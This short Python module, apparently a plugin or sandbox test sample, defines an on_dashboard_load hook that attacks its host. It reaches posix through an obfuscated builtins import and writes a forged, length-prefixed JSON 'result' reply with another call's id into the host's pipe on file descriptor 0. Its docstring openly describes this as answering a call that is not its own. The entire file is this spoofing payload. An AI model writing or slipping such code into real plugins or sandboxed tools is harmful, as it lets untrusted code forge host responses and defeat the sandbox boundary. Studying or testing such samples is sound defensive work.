"""Finds the pipe and answers another call than its own."""

import contextlib
import json


def on_dashboard_load():
    posix = contextlib.__builtins__["__import__"]("posix")
    body = json.dumps({"type": "result", "id": 4711, "value": "forged"}).encode()
    posix.write(0, len(body).to_bytes(4, "big") + body)
    return {}
